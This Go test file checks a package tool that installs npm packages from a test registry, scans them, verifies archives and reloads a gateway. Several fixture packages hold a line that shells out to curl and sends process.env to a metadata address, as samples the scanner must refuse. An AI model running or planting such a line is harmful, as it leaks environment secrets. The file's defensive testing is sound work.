package main

import (
	"encoding/json"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"

	"github.com/airlock-run/airlock/infra/packages/registrytest"
	"github.com/airlock-run/airlock/infra/s3objects/s3test"
)

// Packages are added from a registry to an empty folder. From then on nothing needs the registry: list, verify, run and
// a gateway, which takes a change of the folder at SIGHUP, and none of a damaged folder.
func TestNpmPackages(t *testing.T) {
	t.Parallel()
	r := registrytest.New(t)
	r.Publish(t, "lodash", "4.17.21", "package.json", `{"name":"lodash","main":"lodash.js"}`, "lodash.js",
		"exports.chunk = (list, n) => list.length ? [list.slice(0, n), ...exports.chunk(list.slice(n), n)] : []")
	r.Publish(t, "lodash", "5.0.0", "index.js", "throw new Error('nobody asked for it')")
	r.Publish(t, "draws", "1.0.0", "index.js", "exports.n = Math.random()")
	r.Publish(t, "steals", "1.0.0", "index.js",
		"require('child_process').execSync('curl http://169.254.169.254/?' + JSON.stringify(process.env))")
	long := strings.Repeat("x", 2_200_000)
	r.Publish(t, "long", "1.0.0", "index.js", "exports.a = '"+long+"'.length; exports.b = require('./b')", "b.js",
		"module.exports = '"+long+"'.length")
	dir := t.TempDir()
	folder := filepath.Join(dir, "airlock-packages")
	environment := []string{"AIRLOCK_TEST_AS_PROGRAM=1", "AIRLOCK_CACHE_DIR=" + filepath.Join(dir, "cache"),
		"npm_config_registry=" + r.URL, "HOME=" + dir}
	airlock := func(arguments ...string) (string, error) {
		cmd := exec.CommandContext(t.Context(), os.Args[0], arguments...)
		cmd.Dir, cmd.Env = dir, environment
		out, err := cmd.CombinedOutput()
		return string(out), err
	}
	want := func(text string, arguments ...string) {
		t.Helper()
		out, err := airlock(arguments...)
		if err != nil || !strings.Contains(out, text) {
			t.Fatalf("airlock %s: %v\n%s\nwant %s", strings.Join(arguments, " "), err, out, text)
		}
	}
	want("there are no packages", "packages", "list")
	out, err := airlock("packages", "add", "steals")
	if err == nil || !strings.Contains(out, "package steals is refused") {
		t.Errorf("%v %s", err, out)
	}
	if _, err := os.Stat(folder); err == nil {
		t.Error("a refused package left a folder")
	}
	const listed = "lodash@4.17.21  scan safe  runs start after it\n"
	out, err = airlock("packages", "add", "lodash@4", "steals", "nobody", "draws", "other@npm:lodash@5")
	for _, text := range []string{listed, "draws@1.0.0", "package steals is refused", "nobody"} {
		if err == nil || !strings.Contains(out, text) {
			t.Errorf("some of several: %v %s; want %s", err, out, text)
		}
	}
	want("other@5.0.0", "packages", "list")
	want("long@1.0.0  scan safe", "packages", "add", "long") // longer than a source of a request may be
	want("4400000\n", "run", "-e", "import long from 'long'; long.a + long.b")
	want(listed, "packages", "remove", "other", "long")
	r.Close()
	want(listed, "packages", "list")
	want("draws@1.0.0  scan safe  each run evaluates it: it draws random numbers while it loads", "packages", "list")
	want("ok: 2 packages", "packages", "verify")
	want("draws declares no types\nlodash declares no types\nok: wrote", "packages", "types", "types")
	want(listed, "packages", "prepare")
	want("2\n", "run", "-e", `import _ from "lodash"; _.chunk([1, 2, 3], 2).length`)

	p := startCommand(t, dir, exec.Command(os.Args[0], "serve"), append(environment, "PORT=0", "FUNCTION_PROCESSES=1",
		"RATE_LIMIT_MAX_REQUESTS=100000"))
	const run = `{"code":"import _ from 'lodash'; _.chunk([1, 2, 3], 2)[1][0]"}`
	result := func(code string) any {
		_, v := p.post(t.Context(), t, "/api/execute", code)
		return v["result"]
	}
	if got := result(run); got != 3.0 {
		t.Fatalf("the gateway ran it to %v", got)
	}
	names := func() (all []string) {
		var list struct {
			Items []struct {
				Name, Version string
				Tiers         []string
				Image         bool
				Why           string
			}
		}
		if err := json.Unmarshal([]byte(fetch(t, p.url+"/api/packages")), &list); err != nil {
			t.Fatal(err)
		}
		for _, p := range list.Items {
			if p.Image == (p.Why != "") {
				t.Errorf("%+v", p)
			}
			if len(p.Tiers) == 3 { // the tiers are read after the packages
				all = append(all, p.Name+"@"+p.Version)
			}
		}
		return all
	}
	for policy, declares := range map[string]bool{"standard": true, "strict": false} {
		text := fetch(t, p.url+"/api/packages.d.ts?policy="+policy)
		if strings.Contains(text, "declare module \"lodash\" {\n") != declares ||
			strings.Contains(text, "  export function chunk(a?: any, b?: any, ...more: any[]): any;\n") != declares {
			t.Errorf("%s: %s", policy, text)
		}
	}
	tag := ""
	for _, status := range []int{http.StatusOK, http.StatusNotModified} {
		q, err := http.NewRequestWithContext(t.Context(), http.MethodGet, p.url+"/api/packages.d.ts", nil)
		if err != nil {
			t.Fatal(err)
		}
		q.Header.Set("If-None-Match", tag)
		res, err := http.DefaultClient.Do(q)
		if err == nil {
			tag, err = res.Header.Get("ETag"), res.Body.Close()
		}
		if err != nil || res.StatusCode != status || tag == "" {
			t.Errorf("status %d, tag %s, %v", res.StatusCode, tag, err)
		}
	}
	if got := strings.Join(names(), " "); got != "draws@1.0.0 lodash@4.17.21" {
		t.Errorf("packages %s", got)
	}

	again := registrytest.New(t)
	again.Publish(t, "later", "1.0.0", "index.js", "module.exports = 7")
	environment[2] = "npm_config_registry=" + again.URL
	notes := filepath.Join(folder, "airlock.json") // a package with the same content is not tried again
	text, err := os.ReadFile(notes)
	if err == nil {
		err = os.WriteFile(notes, []byte(strings.Replace(string(text), "it draws random numbers", "it drew", 1)), 0o600)
	}
	if err != nil {
		t.Fatal(err)
	}
	want("each run evaluates it: it drew while it loads", "packages", "add", "later")
	want("later@1.0.0", "packages", "remove", "draws")
	hangUp := func() {
		t.Helper()
		if err := p.Process.Signal(syscall.SIGHUP); err != nil {
			t.Fatal(err)
		}
	}
	const later = `{"code":"import l from 'later'; l"}`
	if got := result(later); got != nil {
		t.Errorf("before the reload, it is %v", got)
	}
	hangUp()
	until(t, "the new package in the list", func() bool {
		return strings.Join(names(), " ") == "later@1.0.0 lodash@4.17.21"
	})
	until(t, "the new package in a function process", func() bool {
		return result(later) == 7.0
	})
	archive := filepath.Join(folder, "archives", "later@1.0.0.tgz")
	if err := os.WriteFile(archive, []byte("damaged"), 0o600); err != nil {
		t.Fatal(err)
	}
	hangUp()
	if got := result(run); got != 3.0 || len(names()) != 2 {
		t.Errorf("a damaged folder changed the gateway: %v", got)
	}
	if out, err := airlock("packages", "verify"); err == nil || !strings.Contains(out, "its SHA-512 differs") {
		t.Errorf("%v %s", err, out)
	}
	if out, _ := airlock("doctor"); !strings.Contains(out, "FAIL packages") {
		t.Error(out)
	}
	p = startCommand(t, dir, exec.Command(os.Args[0], "serve"), append(environment, "PORT=0", "FUNCTION_PROCESSES=1"))
	if got := result(run); got != 3.0 {
		t.Errorf("with a damaged package, another one runs to %v", got)
	}
	_, v := p.post(t.Context(), t, "/api/execute", later)
	if text, _ := v["error"].(string); !strings.Contains(text, "'later'") || !strings.Contains(text, "damaged") {
		t.Errorf("%v", v)
	}
	if list := fetch(t, p.url+"/api/packages"); !strings.Contains(list, "it is damaged and cannot be imported") {
		t.Error(list)
	}
}

// An operator may add a package that the scan refuses. The folder keeps what was found, and the permission holds for
// the same content only. A package without it is refused beside that one.
func TestAllowedFindings(t *testing.T) {
	t.Parallel()
	r := registrytest.New(t)
	const steals = "exports.go = () => require('child_process').execSync('curl http://169.254.169.254/?' + " +
		"JSON.stringify(process.env)); exports.n = 4"
	r.Publish(t, "needs", "1.0.0", "package.json",
		`{"name":"needs","version":"1.0.0","dependencies":{"inner":"1"}}`, "index.js", steals)
	r.Publish(t, "inner", "1.0.0", "index.js", "module.exports = 1")
	r.Publish(t, "steals", "1.0.0", "index.js", steals)
	r.Publish(t, "also", "1.0.0", "index.js", steals)
	r.Publish(t, "one", "1.0.0", "index.js", "module.exports = 1")
	dir := t.TempDir()
	environment := []string{"AIRLOCK_TEST_AS_PROGRAM=1", "AIRLOCK_CACHE_DIR=" + filepath.Join(dir, "cache"),
		"npm_config_registry=" + r.URL, "HOME=" + dir}
	airlock := func(arguments ...string) (string, int) {
		cmd := exec.CommandContext(t.Context(), os.Args[0], arguments...)
		cmd.Dir, cmd.Env = dir, environment
		out, err := cmd.CombinedOutput()
		if err != nil && cmd.ProcessState == nil {
			t.Fatal(err)
		}
		return string(out), cmd.ProcessState.ExitCode()
	}
	const despite = "added with --allow-findings despite: "
	for _, c := range []struct {
		arguments string
		exit      int
		want      string
	}{
		{"packages add steals", 3, "airlock packages add steals --allow-findings adds it nevertheless"},
		{"packages list", 0, "there are no packages"},
		{"packages add steals --allow-findings", 0, despite},
		{"packages list", 0, despite},
		{"packages add one", 0, despite},
		{"packages add also", 3, "package also is refused"},
		{"packages add steals", 3, "package steals is refused"},
		{"packages add needs --allow-findings", 0, "needs@1.0.0"},
		{"run -e require('steals').n", 0, "4\n"},
		{"run -e require('steals').go()", 1, "child_process"},
	} {
		if out, code := airlock(strings.Fields(c.arguments)...); code != c.exit || !strings.Contains(out, c.want) {
			t.Errorf("airlock %s: %d\n%s\nwant %d and %s", c.arguments, code, out, c.exit, c.want)
		}
	}
	r.Publish(t, "inner", "1.1.0", "index.js", "module.exports = 2")
	out, code := airlock("packages", "add", "inner")
	if code != 3 || !strings.Contains(out, "package needs is refused") {
		t.Errorf("what an allowed package needs changed: %d %s", code, out)
	}
	notes, err := os.ReadFile(filepath.Join(dir, "airlock-packages", "airlock.json"))
	if err != nil || strings.Count(string(notes), `"allowedFindings": [`) != 2 {
		t.Errorf("%v %s", err, notes)
	}
}

// Packages whose main module cannot be loaded, or that have none, are added: code imports their other paths.
func TestPackagesWithoutMainModule(t *testing.T) {
	t.Parallel()
	r := registrytest.New(t)
	r.Publish(t, "peers", "1.0.0", "package.json", `{"name": "peers", "version": "1.0.0"}`,
		"index.mjs", "import { use } from 'absent'; export const hook = () => use()", "index.js", "require('absent')",
		"vanilla.js", "exports.n = 5")
	r.Publish(t, "paths", "1.0.0", "package.json",
		`{"name": "paths", "version": "1.0.0", "exports": {"./package.json": "./package.json", "./one": "./lib/one.js"}}`,
		"lib/one.js", "exports.n = 6")
	r.Publish(t, "hides", "1.0.0", "package.json",
		`{"name": "hides", "version": "1.0.0", "exports": {"./one": "./lib/one.js"}}`,
		"lib/one.js", "require('child_process').execSync('curl http://169.254.169.254/?' + JSON.stringify(process.env))")
	r.Publish(t, "large", "1.0.0", "index.js", "//"+strings.Repeat(" ", 9<<20))
	r.Publish(t, "table", "1.0.0", "index.js", `exports.n = 7; exports.words = "`+strings.Repeat("word ", 1<<20)+`"`)
	dir := t.TempDir()
	for _, c := range []struct {
		arguments string
		exit      int
		want      string
	}{
		{"packages add peers paths", 0, "it cannot be loaded: Error: Cannot find package 'absent'"},
		{"packages list", 0, "it is installed, but has no such module, or does not export it"},
		{"packages add hides", 3, "package hides is refused"},
		{"packages add large", 3, "package large cannot be imported: it has no main module among its files of at most 8 MiB"},
		{"packages add table", 0, "table@1.0.0  scan safe  runs start after it"},
		{"run -e require('table').n", 0, "7\n"},
		{"run -e require('peers/vanilla').n+require('paths/one').n", 0, "11\n"},
		{"run -e require('paths').n", 1, "Cannot find package 'paths'"},
		{"run -e require('peers').n", 1, "Cannot find package 'absent'"},
	} {
		cmd := exec.CommandContext(t.Context(), os.Args[0], strings.Fields(c.arguments)...)
		cmd.Dir = dir
		cmd.Env = []string{"AIRLOCK_TEST_AS_PROGRAM=1", "AIRLOCK_CACHE_DIR=" + filepath.Join(dir, "cache"),
			"npm_config_registry=" + r.URL, "HOME=" + dir}
		out, err := cmd.CombinedOutput()
		if err != nil && cmd.ProcessState == nil {
			t.Fatal(err)
		}
		if code := cmd.ProcessState.ExitCode(); code != c.exit || !strings.Contains(string(out), c.want) {
			t.Errorf("airlock %s: %d\n%s\nwant %d and %s", c.arguments, code, out, c.exit, c.want)
		}
	}
}

// A gateway copies its packages from a bucket at its start and at SIGHUP, and does not start without them.
func TestPackagesInBucket(t *testing.T) {
	t.Parallel()
	s3, err := s3test.Start()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(s3.Stop)
	r := registrytest.New(t)
	r.Publish(t, "one", "1.0.0", "index.js", "module.exports = 1")
	r.Publish(t, "two", "1.0.0", "index.js", "module.exports = 2")
	dir, url := t.TempDir(), "s3://"+s3.Bucket(t)+"/packages"
	environment := append(s3test.Environment(), "AIRLOCK_TEST_AS_PROGRAM=1",
		"AIRLOCK_CACHE_DIR="+filepath.Join(dir, "cache"), "npm_config_registry="+r.URL, "HOME="+dir,
		"S3_ENDPOINT="+s3.Endpoint, "PORT=0")
	inBucket := append(slices.Clone(environment), "AIRLOCK_PACKAGES="+url)
	airlock := func(environment []string, arguments ...string) string {
		cmd := exec.CommandContext(t.Context(), os.Args[0], arguments...)
		cmd.Dir, cmd.Env = dir, environment
		out, err := cmd.CombinedOutput()
		if err != nil {
			return err.Error() + "\n" + string(out)
		}
		return string(out)
	}
	for _, c := range []struct {
		environment []string
		arguments   string
		want        string
	}{
		{environment, "packages push " + url, "there are no packages to push"},
		{environment, "packages push folder", "is not a bucket"},
		{environment, "packages add one", "one@1.0.0"},
		{inBucket, "serve", "the bucket has no packages.json under this prefix"},
		{inBucket, "run -e 1", "the bucket has no packages.json under this prefix"},
		{inBucket, "doctor", "FAIL packages"},
		{environment, "packages push " + url, "has 1 packages"},
		{inBucket, "packages list", "one@1.0.0"},
		{inBucket, "packages verify", "ok: 1 packages"},
		{inBucket, "run -e require('one')", "1\n"},
	} {
		if out := airlock(c.environment, strings.Fields(c.arguments)...); !strings.Contains(out, c.want) {
			t.Fatalf("airlock %s: %s\nwant %s", c.arguments, out, c.want)
		}
	}
	p := startCommand(t, dir, exec.Command(os.Args[0], "serve"), append(inBucket, "FUNCTION_PROCESSES=1",
		"RATE_LIMIT_MAX_REQUESTS=100000"))
	result := func(code string) any {
		_, v := p.post(t.Context(), t, "/api/execute", code)
		return v["result"]
	}
	if got := result(`{"code":"import n from 'one'; n"}`); got != 1.0 {
		t.Errorf("got %v", got)
	}
	if out := airlock(inBucket, "packages", "add", "two"); !strings.Contains(out, "two@1.0.0") {
		t.Fatal(out)
	}
	if err := p.Process.Signal(syscall.SIGHUP); err != nil {
		t.Fatal(err)
	}
	until(t, "the new package in a function process", func() bool {
		return result(`{"code":"import n from 'two'; n"}`) == 2.0
	})
}
